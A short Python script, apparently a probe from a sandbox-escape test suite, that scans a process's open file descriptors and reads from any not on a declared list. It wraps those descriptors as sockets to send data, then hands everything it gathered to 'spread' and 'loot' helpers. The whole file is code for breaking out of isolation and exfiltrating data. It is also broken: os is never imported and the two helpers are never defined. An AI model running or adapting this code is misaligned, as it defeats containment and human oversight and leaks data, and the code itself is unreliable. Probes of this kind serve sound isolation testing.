"""Use file handles that were left open, and the kit's own pipes, as a way out."""

# ends: honest or crash
# admission: network
import contextlib
import socket

if __name__ == "__main__":
    found = []
    used = {int(fd) for fd in os.environ["CLOCK_FDS"].split(",")} | {0, 1, 2}
    for number in range(3, 256):
        with contextlib.suppress(OSError):
            found.append(os.readlink(f"/proc/self/fd/{number}").encode())
            if number not in used:
                os.set_blocking(number, False)
                found.append(os.read(number, 4096))
                with socket.socket(fileno=os.dup(number)) as server:
                    server.send(b"hello")
    spread(found + loot("/proc/self/fd"))
